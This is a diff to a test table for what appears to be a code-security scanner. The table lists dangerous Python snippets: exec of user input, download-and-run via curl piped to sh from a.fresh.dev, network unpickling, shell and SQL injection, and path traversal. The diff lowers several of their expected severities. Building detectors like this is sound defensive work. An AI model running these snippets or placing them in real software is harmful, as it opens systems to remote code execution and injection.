@@ -17,17 +17,17 @@ def _found(report: Report) -> dict[str, str]:
 
 _HARM = [
     ("eval(expression)", "runs-text-as-code", "medium"),
-    ("e = eval\ne(input())", "runs-input-as-code", "high"),
-    ("import sys\nexec(sys.argv[1])", "runs-input-as-code", "high"),
+    ("e = eval\ne(input())", "runs-input-as-code", "medium"),
+    ("import sys\nexec(sys.argv[1])", "runs-input-as-code", "medium"),
     ("from base64 import b64decode as d\nx = d(TEXT)\nexec(x)", "decoded-code", "high"),
     ("import requests\nexec(requests.get('https://a.fresh.dev').text)", "download-and-run", "high"),
     ("__import__('os').system('ls ' + name)", "shell-from-data", "low"),
     ("import subprocess as s\ns.run(f'ls {input()}', shell=True)", "shell-from-input", "medium"),
-    ("import os\nos.system('curl https://a.fresh.dev/x | sh')", "download-and-run", "high"),
+    ("import os\nos.system('curl https://a.fresh.dev/x | sh')", "download-and-run", "medium"),
     ("import pickle\npickle.load(open(f, 'rb'))", "unpickles", "low"),
-    ("import pickle, requests\npickle.loads(requests.get(u).content)", "unpickles-from-network", "high"),
+    ("import pickle, requests\npickle.loads(requests.get(u).content)", "unpickles-from-network", "medium"),
     ("import yaml\nyaml.load(text)", "unpickles", "low"),
-    ("def find(name):\n    q = f\"SELECT * FROM t WHERE n = '{name}'\"\n    return db.execute(q)", "sql-from-text", "medium"),
+    ("def find(name):\n    q = f\"SELECT * FROM t WHERE n = '{name}'\"\n    return db.execute(q)", "sql-from-text", "low"),
     (
         "import os\n"
         "def read(name):\n    path = os.path.join('/srv/docs', name)\n    return open(path).read()",
